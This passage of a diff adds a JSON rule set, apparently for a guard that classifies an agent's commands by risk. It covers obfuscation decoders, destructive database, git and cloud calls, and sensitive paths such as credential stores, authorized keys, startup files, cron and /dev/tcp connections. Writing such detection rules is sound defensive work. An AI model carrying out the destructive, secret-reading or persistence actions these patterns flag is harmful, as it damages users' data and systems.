+"],["\\u00a7T\\\\.(?:splitlines\\\\(\\\\)|split\\\\((?:[\\"']\\\\\\\\n[\\"']|\\\\/\\\\\\\\r\\\\?\\\\\\\\n\\\\/|\\\\/\\\\\\\\n\\\\/)\\\\)|each_line\\\\b(?!\\\\()|lines\\\\b(?!\\\\())","\\u00a7L"],["\\\\bwith \\u0\
+0a7F as (\\\\w+)","=\\u00a7F"],["(?:\\\\b(?:const|let|var) )?(?<![\\\\w.\\\\]])(\\\\w+) ?= ?\\u00a7([TFLROM])(?![\\\\w.\\\\[?])","=\\u00a7$2"],["\\\\bfor (\\\\w+) in \\u00a7[FL](?![\\\
+\\w.\\\\[])","=\\u00a7R"],["\\\\bfor ?\\\\((?:const|let|var) (\\\\w+) of \\u00a7L(?![\\\\w.\\\\[])","=\\u00a7R"],["\\\\bfor \\\\w+, ?(\\\\w+) in (?:enumerate\\\\(\\u00a7[FL](?:, ?\\\\d+)?\
+\\\\)|\\u00a7O\\\\.items\\\\(\\\\))","=\\u00a7R"],["\\\\[\\\\s*\\\\w+, ?(\\\\w+)\\\\s*\\\\] of Object\\\\.entries\\\\(\\u00a7O\\\\)","=\\u00a7R"],["\\u00a7L\\\\.(?:map|forEach|filter|flatMap|so\
+me|every)\\\\(\\\\(?(\\\\w+)\\\\)? ?=>","=\\u00a7R"],["\\u00a7L(?:\\\\.(?:each|map|select|reject|filter_map))* ?(?:\\\\{|do) ?\\\\|(\\\\w+)\\\\|","=\\u00a7R"],["(?<![\\\\w.,] ?)(?<![\\\
+\\w.])\\\\w+, ?(\\\\w+) ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"'], ?(?:maxsplit=)?1\\\\)","=\\u00a7R"],["(?<![\\\\w.])\\\\w+, ?\\\\w+, ?(\\\\w+) ?= ?\\u00a7R\\\\.partition\\\\([\\"']=[\\"']\\\\\
+)","=\\u00a7R"],["\\\\[\\\\s*\\\\w+, ?(?:\\\\.\\\\.\\\\.)?(\\\\w+)\\\\s*\\\\] ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"']","=\\u00a7R"],["\\u00a7R\\\\.(?:strip|rstrip|lstrip|trim|trimStart|trim\
+End|chomp)(?:\\\\((?:[\\"'](?:\\\\\\\\[nrt]|\\\\s)*[\\"'])?\\\\)|(?![\\\\w(]))","\\u00a7R"],["(?:\\\\b(?:const|let|var) )?(?<![\\\\w.])\\u00a7[TFLROM] ?= ?\\u00a7[TFLROM](?![\\\\w.\\\\[\
+?])",""],["\\\\bwith \\u00a7F as \\u00a7F",""],["\\u00a7R\\\\.(?:split\\\\([\\"']=[\\"'](?:, ?(?:maxsplit=)?-?\\\\d+)?\\\\)|partition\\\\([\\"']=[\\"']\\\\))(?:\\\\[0\\\\]|\\\\.first\\\\b|\\\
+\\.shift\\\\(\\\\))","_name_"],["\\u00a7R\\\\.(?:slice|substring)\\\\(0, ?\\u00a7R\\\\.indexOf\\\\([\\"']=[\\"']\\\\)\\\\)|\\u00a7R\\\\[:\\u00a7R\\\\.(?:index|find)\\\\([\\"']=[\\"']\\\\)\\\\]","\
+_name_"],["(?<![\\\\w.,] ?)(?<![\\\\w.])\\\\w+, ?\\u00a7R ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"'], ?(?:maxsplit=)?1\\\\)|(?<![\\\\w.])\\\\w+, ?\\\\w+, ?\\u00a7R ?= ?\\u00a7R\\\\.partiti\
+on\\\\([\\"']=[\\"']\\\\)",""],["(?:\\\\b(?:const|let|var) )?\\\\[\\\\s*\\\\w+(?:, ?(?:\\\\.\\\\.\\\\.)?\\u00a7R)?\\\\s*\\\\] ?= ?\\u00a7R\\\\.split\\\\([\\"']=[\\"'][^()\\\\n]*\\\\)",""],["(?<![\\\
+\\w.])re\\\\.(?:match|search)\\\\(r?([\\\\\\"'])\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+\
+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^\\\\\\"'()\\\\n]*\\\\1, ?\\u00a7R\\\\)","\\u00a7M"],["\\u00a7R\\\\.match\
+\\\\(\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^\
+=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/[imu]*\\\\)|\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\\
+((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\\
+/\\\\n]*\\\\/[imu]*\\\\.exec\\\\(\\u00a7R\\\\)","\\u00a7M"],["(?<![\\\\w.])re\\\\.findall\\\\(r?([\\\\\\"'])(?:\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:\
+\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^\\\\\\"'()\\\\n]*|\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:e\
+xport\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+(?:=(?![?*{+])|\\\\(\\\\?==\\\\)))\\\\1, ?\\u00a7[TR](?:\
+, ?(?:flags=)?re\\\\.\\\\w+)?\\\\)","_name_"],["\\u00a7[TR]\\\\.(?:match\\\\(\\\\/(?:\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|\
+_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))|\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\
+\\*)?(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+(?:=(?![?*{+])|\\\\(\\\\?==\\\\)))\\\\/[imu]*g[imu]*\\\\)|scan\\\\(\\\\/(?:\\\\^?(?:\\\\\\\\s\\\\*)?(\
+?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\
+\\\\?==\\\\))|\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+(?:=(?![?\
+*{+])|\\\\(\\\\?==\\\\)))\\\\/[imu]*\\\\))(?!\\\\.input)|\\u00a7R\\\\[\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:(?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\
+\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\\\\d,?\\\\d*\\\\})+|\\\\[\\\\^=#?(?:\\\\\\\\s|#)?\\\\][+*])\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/, ?1\\\\]","_name_"],["\\\\[\\\\.\
+\\\\.\\\\.\\u00a7T\\\\.matchAll\\\\(\\\\/\\\\^?(?:\\\\\\\\s\\\\*)?(?:\\\\(\\\\?:export\\\\\\\\s[+*]\\\\)[?*])?(?:\\\\\\\\s\\\\*)?\\\\((?:\\\\[(?:A-Z|a-z|0-9|_|\\\\\\\\w|\\\\\\\\d|-)+\\\\]|\\\\\\\\w|[+*](?!\\\\?)|\\\\{\
+\\\\d,?\\\\d*\\\\})+\\\\)(?:\\\\\\\\s\\\\*)?(?:=(?![?*{+])|\\\\(\\\\?==\\\\))[^()\\\\/\\\\n]*\\\\/[gimu]*\\\\)\\\\]\\\\.map\\\\(\\\\(?(\\\\w+)\\\\)? ?=> ?\\\\1\\\\[1\\\\]\\\\)","_name_"],["\\u00a7M(?:\\\\.group\\\
+\\(1\\\\)|(?:\\\\?\\\\.)?\\\\[1\\\\])","_name_"],["(?:Object\\\\.keys|(?<![\\\\w.])(?:sorted|list|set|len))\\\\(\\u00a7O\\\\)|\\u00a7O\\\\.keys(?:\\\\(\\\\)|(?![\\\\w(]))|(?<=\\\\.join\\\\()\\u0\
+0a7O(?=\\\\))|(?<!\\\\*)\\\\*\\u00a7O(?=[,)])","_name_"],["\\\\bin \\u00a7O(?![\\\\w.\\\\[])","in _name_"],["\\\\bfor \\\\w+, ?\\u00a7R in (?:enumerate\\\\(\\u00a7[FL](?:, ?\\\\d+)?\\\\)\
+|\\u00a7O\\\\.items\\\\(\\\\))|\\\\[\\\\s*\\\\w+, ?\\u00a7R\\\\s*\\\\] of Object\\\\.entries\\\\(\\u00a7O\\\\)|\\\\bfor \\u00a7R in \\u00a7[FL](?![\\\\w.\\\\[])|\\\\(\\\\s*(?:const|let|var) \\u00a7R\
+ of \\u00a7L(?![\\\\w.\\\\[])","for _ in _"],["\\u00a7R\\\\.(?:startswith|startsWith|start_with\\\\?|endswith|endsWith|includes|include\\\\?|isspace|empty\\\\?)(?:\\\\((?:[\\"']\
+[^\\"'\\\\n]{0,3}[\\"'](?:, ?[\\"'][^\\"'\\\\n]{0,3}[\\"'])*|\\\\([\\"'][^()\\\\n]{0,20}\\\\))?\\\\)|(?![\\\\w(]))|[\\"'][^\\"'\\\\n]{0,3}[\\"'] (?:not )?in \\u00a7R(?![\\\\w.\\\\[])|\\u00a7R\
+(?:\\\\[0\\\\])? ?[!=]==? ?[\\"'][^\\"'\\\\n]{0,3}[\\"']","_ok_"],["\\\\/\\\\^\\\\\\\\?[#\\\\w]{1,4}(?:\\\\\\\\s\\\\*)?\\\\/\\\\.test\\\\(\\u00a7R\\\\)|\\u00a7R =~ \\\\/\\\\^\\\\\\\\?[#\\\\w\\\\\\\\]{1,4}\\\\/|(\
+?:\\\\bnot |!)\\u00a7[RM](?![\\\\w.\\\\[])|(?<![\\\\w.])len\\\\(\\u00a7L\\\\)|\\u00a7L\\\\.length\\\\b","_ok_"],["\\\\b(if|unless) ((?:_ok_|\\\\b(?:and|or|not)\\\\b|[ ()!&|])*)\\u00a7[RM\
+](?=\\\\s*(?:and\\\\b|or\\\\b|else\\\\b|:|\\\\]|\\\\)|&&|\\\\|\\\\||\\\\n|$))","$1 $2_ok_"],["\\\\bif ?\\\\(((?:_ok_|[ ()!&|])*)\\u00a7[RM](?=\\\\s*(?:&&|\\\\|\\\\||\\\\)))","if ($1_ok_"],["\\\
+u00a7L\\\\.filter\\\\((?:Boolean|\\\\(?\\u00a7R\\\\)? ?=> ?(?:_ok_|[!&| ()]|\\u00a7R (?=&&))+)\\\\)","\\u00a7L"],["\\u00a7L\\\\.(?:map|forEach|flatMap|filter)\\\\(\\\\(?\\u00a7R\\\\)?\
+ ?=> ?","_list_("],["\\u00a7L(?:\\\\.(?:each|map|select|reject|filter_map))* ?(?:\\\\{|do) ?\\\\|\\u00a7R\\\\|","_list_ {"]],"shared":{"functions":{"chr":"characters $all\
+","fromCharCode":"characters $all","fromCodePoint":"characters $all","bytes":"characters $0","bytearray":"characters $0","ord":"code-point $0","int":"integer $0\
+ $1","str":"value $0","String":"value $0","strval":"value $0","iter":"value $0","scalar":"value $0","expanduser":"value $0","abspath":"value $0","realpath":"val\
+ue $0","normpath":"value $0","fspath":"value $0","compile":"value $0","enter_context":"value $0","closing":"value $0","list":"listed $0","sorted":"listed $0","t\
+uple":"listed $0","set":"listed $0","frozenset":"listed $0","Set":"listed $0","Array.from":"listed $0","from":"listed $0","b64decode":"fold base64 $0","urlsafe_\
+b64decode":"fold base64 $0","decodebytes":"fold base64 $0","a2b_base64":"fold base64 $0","base64_decode":"fold base64 $0","decode_base64":"fold base64 $0","deco\
+de64":"fold base64 $0","strict_decode64":"fold base64 $0","urlsafe_decode64":"fold base64 $0","atob":"fold base64 $0","b32decode":"fold base32 $0","b85decode":"\
+fold unread $0","a85decode":"fold unread $0","str_rot13":"fold unread $0","decompress":"fold unread $0","gzinflate":"fold unread $0","gzuncompress":"fold unread\
+ $0","gzdecode":"fold unread $0","inflateSync":"fold unread $0","inflateRawSync":"fold unread $0","gunzipSync":"fold unread $0","b16decode":"fold hex $0","unhex\
+lify":"fold hex $0","a2b_hex":"fold hex $0","fromhex":"fold hex $0","hex2bin":"fold hex $0","strrev":"fold reverse $0","reversed":"reverse $0","reverse":"revers\
+e $0","strtolower":"fold lower $0","lc":"fold lower $0","strtoupper":"fold upper $0","uc":"fold upper $0","trim":"fold trim $0","unescape":"fold url $0","unquot\
+e":"fold url $0","urldecode":"fold url $0","rawurldecode":"fold url $0","decodeURIComponent":"fold url $0","decodeURI":"fold url $0","expandvars":"fold home $0"\
+,"join":"join-texts $0 $1..","implode":"join-texts $0 $1..","sprintf":"format $0 $1..","map":"map $0 $1","array_map":"map $0 $1"},"methods":{"join":"join-texts \
+$self $0","split":"if-text split $self $0","replace":"if-text if-args:2 replace $self $0 $1","replaceAll":"if-text replace $self $0 $1","gsub":"if-text replace \
+$self $0 $1","lower":"if-text fold lower $self","downcase":"if-text fold lower $self","toLowerCase":"if-text fold lower $self","upper":"if-text fold upper $self\
+","upcase":"if-text fold upper $self","toUpperCase":"if-text fold upper $self","strip":"if-text fold trim $self","chomp":"if-text fold trim $self","trim":"if-te\
+xt fold trim $self","rstrip":"if-text fold trim-end $self","lstrip":"if-text fold trim-start $self","reverse":"reverse $self","decode":"decode $self $0","encode\
+":"value $self","to_s":"value $self","to_str":"value $self","to_sym":"value $self","bytes":"value $self","bind":"value $self","chars":"if-text elements $self","\
+concat":"concatenate $self $all","format":"if-text format $self $0..","clear":"if-lasting run sql delete-all rows","clearAsync":"if-lasting run sql delete-all r\
+ows","drop":"if-lasting run sql delete-all rows","dropAsync":"if-lasting run sql delete-all rows","erase":"if-lasting run sql delete-all rows","remove":"if-empt\
+y if-lasting run sql delete-all rows","removeAsync":"if-empty if-lasting run sql delete-all rows","openDB":"if-made:store value $self","open_db":"if-made:store \
+value $self","sublevel":"if-made:store value $self","begin":"if-made:store value $self","pack":"pack $0 $self","unpack1":"if-text fold base64 $self","charCodeAt\
+":"code-point $self $0","slice":"slice $self $0 $1","joinpath":"join $self $0..","hexdigest":"value","call":"invoke $self $0..","apply":"invoke $self $1","send"\
+:"message $self $0 $1..","public_send":"message $self $0 $1..","__send__":"message $self $0 $1.."},"deeds":{"drop_database":"if-kept run sql drop-database $owne\
+r","dropdatabase":"if-kept run sql drop-database $owner","ensuredeleted":"if-kept run sql drop-database $owner","ensuredeletedasync":"if-kept run sql drop-datab\
+ase $owner","push":"if-git run git push $all","checkout":"if-git run git checkout $all","update_ref":"if-git run git update-ref $all","filter_branch":"if-git ru\
+n git filter-branch $all","branch":"if-git run git branch $all","stash":"if-git run git stash $all","raw":"if-git program git $all","reset":"if-says:^- run git \
+reset $all","clean":"if-says:^- run git clean $all","drop_all":"if-kept run sql drop-schema $owner","drop_table":"if-kept run sql drop-table $0","droptable":"if\
+-kept run sql drop-table $0","extractall":"run tar xf archive -C $0:path","unpack_archive":"run tar xf archive -C $0:path","extractto":"run tar xf archive -C $0\
+:path","extract_archive":"run tar xf archive -C $1","drop_index":"value","drop_indexes":"value","dropindex":"value","dropindexes":"value","flushall":"if-stored \
+run sql flush FLUSHALL","flush_all":"if-stored run sql flush FLUSHALL | if-name:broker run sql flush FLUSHALL","flushdb":"if-stored run sql flush FLUSHDB","dele\
+te_all":"if-name if-kept run sql delete-all $owner","destroy_all":"if-name if-kept run sql delete-all $owner","deleteall":"if-name if-kept run sql delete-all $o\
+wner","deletemany":"if-kept if-empty run sql delete-all $owner","delete_many":"if-kept if-empty run sql delete-all $owner","_raw_delete":"if-kept run sql delete\
+-all $owner","drop_collection":"if-kept if-none run sql drop-collection $owner | if-kept run sql drop-collection $0","dropcollection":"if-kept if-none run sql d\
+rop-collection $owner | if-kept run sql drop-collection $0","query":"made rows","collection":"made rows","all":"if-none made rows","filter":"if-none made rows",\
+"exclude":"if-none made rows","begin_delete":"if-kept run cloud-sdk delete","begindelete":"if-kept run cloud-sdk delete","recursivedelete":"if-kept run cloud-sd\
+k delete","obliterate":"if-kept run cloud-sdk delete","expunge":"if-none if-kept run cloud-sdk delete","purge":"if-name:control if-no-sign:memory-broker run cel\
+ery purge","discard_all":"if-name:control if-no-sign:memory-broker run celery purge","drop":"if-made:rows if-none run sql drop-collection rows","delete":"if-mad\
+e:rows if-none run sql delete-all rows | if-none made pending-delete","forcedelete":"if-made:rows if-none run sql delete-all rows"}},"words":{"skipped":["if","e\
+lif","else","elsif","unless","while","until","do","try","except","catch","finally","begin","rescue","ensure","then","end","and","or","in","case","when","switch"\
+,"default","break","continue","pass","next","last","redo","raise","throw","export","public","private","protected","static","final","abstract","async","use","usi\
+ng","package"],"ending_signs":[";","{","}",")","]",",",":","=>"],"assigning":["=",":=","+=",".=","||=","??=","&&="],"constructors":["__init__","constructor","in\
+itialize","__construct"],"class_keywords":["class","module","interface","namespace"],"declaring":["const","let","var","my","our","local","await","static","async\
+"],"standard":["assert","async_hooks","buffer","child_process","cluster","console","crypto","dgram","dns","events","fs","http","http2","https","module","net","o\
+s","path","perf_hooks","process","punycode","querystring","readline","stream","string_decoder","timers","tls","tty","url","util","v8","vm","worker_threads","zli\
+b","bun","zx","abc","argparse","array","ast","asyncio","base64","binascii","bz2","calendar","cgi","cmath","codecs","collections","concurrent","configparser","co\
+ntextlib","copy","csv","ctypes","dataclasses","datetime","decimal","difflib","email","enum","errno","fileinput","fnmatch","fractions","functools","gc","getpass"\
+,"glob","gzip","hashlib","heapq","hmac","html","importlib","inspect","io","ipaddress","itertools","json","keyword","locale","logging","lzma","math","mimetypes",\
+"multiprocessing","operator","pathlib","pickle","pkgutil","platform","plistlib","pprint","queue","random","re","sched","secrets","select","shelve","shlex","shut\
+il","signal","smtplib","socket","socketserver","sqlite3","ssl","stat","statistics","string","struct","subprocess","sys","sysconfig","tarfile","tempfile","textwr\
+ap","threading","time","timeit","traceback","types","typing","unittest","urllib","uuid","venv","warnings","weakref","webbrowser","xml","xmlrpc","zipfile","zonei\
+nfo","dotenv","jsonwebtoken","jose","jwt","bcrypt","bcryptjs","passlib","cryptography","pydantic","zod","yaml","lodash","pandas","numpy","express","fastapi","fl\
+ask","starlette","winston","pino","loguru","structlog","click","typer","jsdom","happy-dom","linkedom","cheerio","nock","msw","supertest","sinon","jest","vitest"\
+,"pytest","responses","requests_mock","respx","pytest_httpx","vcr","betamax","moto"],"prefixing":["new","await","not","typeof","void","defined","yield","async",\
+"return","throw","clone"],"following":["if","unless","while","until","do","and","or","end","then","rescue","ensure","in","else","elsif","for","foreach","x","eq"\
+,"ne","cmp","lt","gt","le","ge"],"opening":["do","def","class","module","begin","case"],"leading_opening":["if","unless","while","until","for"],"sql_kinds":["DA\
+TABASE","SCHEMA","TABLE","VIEW","INDEX","USER","ROLE","FUNCTION","PROCEDURE","TRIGGER","SEQUENCE","TYPE","EXTENSION","KEYSPACE","TABLESPACE","COLUMN","CONSTRAIN\
+T","POLICY","OWNED","COLLECTION","STREAM","BUCKET","MEASUREMENT","SERIES","PARTITION"],"sql_fillers":["IF","EXISTS","NOT","ONLY","CONCURRENTLY","CASCADE","LOW_P\
+RIORITY","QUICK","IGNORE"],"sql_leads":["AS","BEGIN","THEN","ANALYZE","ANALYSE","EXPLAIN","DO","DETACH","LOOP","ELSE"],"sql_reads":["LOAD_FILE","PG_READ_FILE","\
+PG_READ_BINARY_FILE","LO_IMPORT","READFILE","READ_TEXT","INFILE"],"sql_writes":["OUTFILE","DUMPFILE","WRITEFILE","LO_EXPORT"],"sql_code":["EXECUTE","EXEC","PREP\
+ARE","DO"],"before_value":["return","typeof","case","in","of","and","or","not","if","unless","split","grep","when"],"behind_calls":["while","until","if","unless\
+","or","and","for","foreach"],"data_signs":["driver","database","key-store","in-memory","imitation","data-library"],"endpoints":["endpoint_url","endpoint","base\
+_url","baseURL"],"sending_verbs":["POST","PUT","PATCH","DELETE"],"element_methods":["map","forEach","flatMap","filter","each","each_with_index","collect","selec\
+t","find","to_h","filter_map","reverse_each"],"folding_methods":["reduce","inject","each_with_object"],"selecting_methods":["filter","select","reject","sort","t\
+oSorted","find_all","grep"],"selecting_functions":["filter","takewhile","dropwhile","tqdm"],"remote":["indices","indexes","tables","databases","collections","sc\
+hemas","keyspaces","queues","topics","streams","buckets","exchanges","repos","repositories","projects","resourcegroups","volumes","instances","virtualmachines",\
+"droplets","servers","clusters","namespaces","organizations","customers","subscriptions","deployments","dnszones","zones","tenants","vaults","storageaccounts","\
+webapps","datasets","loadbalancers","backups","hostedzones","shards","replicas","partitions"],"remote_members":["indices","repos","repositories","buckets","reso\
+urcegroups","virtualmachines","droplets","keyspaces","customers","dnszones","storageaccounts","webapps","loadbalancers","hostedzones","deployments","namespaces"\
+,"databases","volumes","statefulsets","daemonsets","persistentvolumeclaims","persistentvolumes","nodes","secrets","configmaps"],"deleting":["delete","rdelete","\
+del","unprotect","drop","destroy","purge","truncate","wipe","terminate","erase","nuke","obliterate","expunge","deregister","deletion"],"loosely_deleting":["remo\
+ve","clear","empty","rmtree","removetree","rmdir","unlink","rm"],"passing":["label","labels","tag","tags","reaction","reactions","assignee","assignees","reviewe\
+r","reviewers","listener","listeners","handler","handlers","header","headers","interceptor","interceptors","cookie","cookies","cache","caches","timeout","interv\
+al","filter","filters","default","defaults","mock","mocks","queue_handler"],"deletion_fillers":["admin","schedule","key","all","if","exist","exists","async","sy\
+nc","force","cascade","begin","batch","bulk","recursive","and","wait","now","by","id","command"],"imitating":["moto.mock_aws","responses.activate","respx.mock"]\
+,"mock_setters":["configure_mock","attach_mock","callsFake","returns","resolves","rejects","mockImplementation","mockReturnValue","mockResolvedValue","mockRejec\
+tedValue"],"mock_ends":["restore","restoreAll","restoreAllMocks","mockRestore","reset","resetAll","resetAllMocks","mockReset","stop","stopall","undo","callThrou\
+gh","callThroughWithNew","callsArg","mockImplementationOnce","__exit__","unmock","doUnmock","enableNetConnect","isolateModules","resetModules","resetHandlers","\
+deactivate"],"conditional":["if","elif","else","unless","for","foreach","while","until","do","switch","match","try","except","case","and","or","assert","&&","||\
+","??","?","?.","||=","??=","&&="],"exiting":["return","throw","raise","await"],"exit_owners":["sys","process"],"opening_statements":["if","for","while","do","s\
+witch","try","with","function","class","else","return","throw"],"defining":["def","class","function","func","fn","sub","lambda","yield","case","default","label"\
+,"goto","defer","finally"],"showing_functions":["dis","getsource","getsourcelines","signature","getdoc","getfile","callable","isfunction","repr","isinstance","i\
+ssubclass"],"function_fields":["length","name","__code__","__name__","__doc__","__defaults__","__annotations__","__module__","__qualname__"],"suspending":["awai\
+t","yield"],"continuing":["else","catch","finally","while","instanceof","in","of","as","from","do"],"changing":["global","nonlocal","for","as","case","del"],"se\
+tting":["=",":=","+=","??=","||="],"later":["lambda","def","function","atexit","Timer","Thread","submit"],"ending":["endswith","endsWith"],"alternating":["||","\
+!","?","??","^",":="],"prefix_signs":["+","-","!","~","*","**","...","&","\\\\","++","--","@","$"],"block_lists":["map","grep","sort","first","any","all"],"perl_d\
+eclaring":["my","our","local"],"file_programs":["rm","rmdir","mv","cp","ln","chmod","chown","touch","mkdir"],"deleting_programs":["rm","truncate","shred"],"dest\
+ructive_programs":["rm","rmdir","eval","truncate","mv","chmod","chown"]}},"paths":{"classes":{"root":"\`/\` itself, or everything in it.","system":"Folders of the\
+ operating system and their contents.","system-tree":"Such a folder itself, or one of its main parts: /etc/ssl, /usr/lib, /var/lib.","local-system":"Parts of th\
+e system for local additions: /usr/local, /opt, package sources.","home":"A home folder itself, or all of several.","personal":"Direct child of a home, or of a \
+folder of personal files.","outside":"Deeper in a home, or anywhere else outside the workspace.","workspace":"The workspace itself, everything in it, or a folde\
+r above it.","source":"Near the top of the workspace, and not produced by a build.","source-folder":"Of these, a folder by whose name projects keep what people \
+wrote; others may be what the agent made itself.","inner":"Deeper in the workspace, and not produced by a build.","disposable":"Produced anew by a build, test o\
+r package manager.","temp":"Inside a folder for temporary files.","temp-root":"Such a folder itself, or everything in it.","vcs":"Store of a version control sys\
+tem: \`.git\`.","vcs-config":"Hooks and configuration of version control.","credentials":"Secrets: keys, tokens, passwords.","credentials-by-name":"\\"credentials\\\
+" in the name of source code or a text: protected from edit tools alone.","handed-over":"Secrets in \`.env\` that the shell hands to programs: \`source .env\`.","fr\
+om-template":"The same, as a copy of the template beside it.","accounts":"Users and permissions: passwd, sudoers, PAM.","account-secrets":"Of these, all but the\
+ list of names that every program reads: /etc/passwd.","authorized-keys":"Keys that may log in.","startup":"Read by shells, desktops and interpreters at start-u\
+p.","schedule":"Cron, timers, services.","device":"Disks.","kernel":"Switches and memory of the kernel.","socket":"Sockets that control a machine.","connection"\
+:"\`/dev/tcp/\\u2026\`: a connection to another machine.","local-connection":"The same to this machine, or to a container beside it.","nowhere":"\`/dev/null\`.","end\
+less":"Devices without an end: \`/dev/zero\`.","data":"Dumps, backups, databases, lists of people.","logs":"Evidence kept by the system: logs, histories.","unknow\
+n":"Unknown before the command runs.","unknown-folder":"Everything in a folder whose name is unknown, and may be empty: all of the machine then."},"purposes":{"\
+connection":{"form":"^/dev/(?:tcp|udp)/(?!(?:localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|[a-z][\\\\w-]*)/)"},"local-connection":{"form":"^/dev/(?:tcp|udp)/(\
+?:localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|[a-z][\\\\w-]*)/"},"nowhere":{"form":"^/dev/(?:null|zero|full|random|urandom)$"},"endless":{"form":"^/dev/(?:z\
+ero|full|u?random)$"},"startup":{"form":"^(~/)?\\\\.(bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|zshrc|zshenv|zprofile)$|^(~/)?\\\\.(zlogin|zlog\
+out|kshrc|cshrc|tcshrc|login|xprofile|xinitrc|xsession|xsessionrc|shrc)$|^(~/)?\\\\.(mkshrc|bash_env|inputrc|pam_environment)$|^~/\\\\.config/(fish/|autostart(/|$)|\
+environment\\\\.d(/|$)|nvim/init\\\\.|plasma-workspace/env)|^~/\\\\.(vimrc|emacs|pythonrc|pythonstartup|gdbinit|tmux\\\\.conf|ssh/rc|ssh/environment|ssh/config)|^~/\\\\.(\
+oh-my-zsh/)|^~/\\\\.(local/lib/python[^/]*/site-packages/.*(\\\\.pth|sitecustomize\\\\.py|usercustomize\\\\.py))|^/etc/(profile(\\\\.d(/.*)?)?|bash\\\\.bashrc|bashrc|zsh(/.\
+*|rc|env)|environment)$|^/etc/(ld\\\\.so\\\\.(preload|conf)(\\\\.d/.*)?|rc\\\\.local|xdg/autostart/.*|skel/.*|fish/.*)$|^/etc/(update-motd\\\\.d/.*|inputrc)$|(^|/)(sitecu\
+stomize|usercustomize)\\\\.py$|/(site|dist)-packages/[^/]+\\\\.pth$","home":true},"schedule":{"form":"^/etc/(cron[^/]*(/.*)?|anacrontab|systemd/.*|init\\\\.d(/.*)?|rc\
